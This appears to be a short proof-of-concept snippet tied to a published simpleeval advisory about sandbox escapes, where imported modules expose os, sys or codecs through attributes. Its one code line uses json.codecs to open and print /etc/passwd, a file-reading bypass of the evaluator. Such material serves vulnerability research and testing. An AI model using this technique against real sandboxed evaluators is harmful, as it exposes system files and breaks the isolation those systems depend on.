# Source: simpleeval CVE-2026-32640 / https://osv.dev/vulnerability/GHSA-44vg-5wv2-h2hg (modules leak os/sys via attributes, e.g. statistics.sys) (same class: json re-exports codecs)
import json
print(json.codecs.open("/etc/passwd").read())
